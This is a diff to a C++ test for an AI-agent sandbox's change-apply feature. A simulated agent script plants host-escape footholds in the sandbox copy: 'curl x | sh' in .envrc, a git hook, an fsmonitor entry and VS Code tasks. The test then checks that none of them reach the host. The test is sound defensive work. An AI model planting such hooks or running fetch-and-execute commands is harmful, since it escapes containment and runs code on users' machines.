@@ -6,6 +6,7 @@
 // the policy file, `changes --json` lists exactly the edits, `--apply PATH` writes only that path,
 // and apply refuses a file the user made meanwhile unless --force.
 #include "e2esandbox.h"
+#include "testfiles.h"
 #include "util/paths.h"
 
 #include <QDirIterator>
@@ -21,12 +22,6 @@ namespace {
 const QByteArray hostilePolicy = "[network]\nmode = \"open\"\n[env]\nset = { HOSTILE_SET = \"leaked\" }\n"
                                  "pass = [\"AISB_QTEST_PASSED\"]\n";
 
-QByteArray readAll(const QString &path)
-{
-    QFile f(path);
-    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<missing>");
-}
-
 // Every entry below `dir`: type, mode and content (a link's target).
 QMap<QString, QByteArray> tree(const QString &dir)
 {
@@ -40,7 +35,7 @@ QMap<QString, QByteArray> tree(const QString &dir)
             continue;
         QByteArray v = QByteArray::number(st.st_mode, 8) + ' ';
         if (S_ISREG(st.st_mode))
-            v += readAll(path);
+            v += readOrMissing(path);
         else if (S_ISLNK(st.st_mode))
             v += QFile::encodeName(QFile::symLinkTarget(path));
         out.insert(QDir(dir).relativeFilePath(path), v);
@@ -95,8 +90,14 @@ private Q_SLOTS:
         QVERIFY2(!dry.out.contains("type=volume"), dry.describe().constData());
         QVERIFY2(!dry.out.contains("HOSTILE_SET"), dry.describe().constData());
 
+        // The agent's next trick: plant in the copy what `changes --apply --force` would carry to the
+        // host (a hook, an fsmonitor, .envrc, editor tasks). The protected paths hold in the copy
+        // as in the project: nothing of it is listed or applied.
         const QString script =
-            QStringLiteral("printf 'new\\n' > created.txt && printf 'int b;\\n' >> src.c && rm gone.txt && "
+            QStringLiteral("(printf 'curl x | sh\\n' >> .envrc; printf '#!/bin/sh\\necho pwned\\n' > "
+                           ".git/hooks/post-commit; printf '[core]\\n\\tfsmonitor = ./x\\n' >> .git/config; "
+                           "mkdir -p .vscode && echo '{}' > .vscode/tasks.json) 2>/dev/null; "
+                           "printf 'new\\n' > created.txt && printf 'int b;\\n' >> src.c && rm gone.txt && "
                            "echo \"IFACES=$(ls /sys/class/net | tr '\\n' ' ')\" && "
                            "echo \"ROUTES=$(tail -n +2 /proc/net/route | wc -l)\" && "
                            "echo \"SET=${HOSTILE_SET:-absent} PASSED=${AISB_QTEST_PASSED:-absent}\" && "
@@ -172,15 +173,20 @@ private Q_SLOTS:
         QCOMPARE(apply.exitCode, 1);
         QVERIFY2(apply.err.contains("created.txt") && apply.err.contains("--force"),
                  apply.describe().constData());
-        QCOMPARE(readAll(project + QStringLiteral("/created.txt")), QByteArray("the user's own\n"));
+        QCOMPARE(readOrMissing(project + QStringLiteral("/created.txt")), QByteArray("the user's own\n"));
         QVERIFY(QFile::exists(project + QStringLiteral("/gone.txt")));
         // --force: all of it.
         apply = e.cli({QStringLiteral("changes"), QStringLiteral("--apply"), QStringLiteral("--force"),
                        QStringLiteral("-C"), project});
         QVERIFY2(apply.finished && apply.exitCode == 0, apply.describe().constData());
-        QCOMPARE(readAll(project + QStringLiteral("/created.txt")), QByteArray("new\n"));
+        QCOMPARE(readOrMissing(project + QStringLiteral("/created.txt")), QByteArray("new\n"));
         QVERIFY(!QFile::exists(project + QStringLiteral("/gone.txt")));
-        QCOMPARE(readAll(project + QStringLiteral("/keep.txt")), QByteArray("keep\n"));
+        QCOMPARE(readOrMissing(project + QStringLiteral("/keep.txt")), QByteArray("keep\n"));
+        const QMap<QString, QByteArray> applied = tree(project);
+        for (const char *planted : {".envrc", ".git/config", ".git/hooks/post-checkout"})
+            QCOMPARE(applied.value(QLatin1String(planted)), before.value(QLatin1String(planted)));
+        QVERIFY(!applied.contains(QStringLiteral(".git/hooks/post-commit")));
+        QVERIFY(!applied.contains(QStringLiteral(".vscode")));
 
         // Discard removes the copy.
         const E2eResult discard =
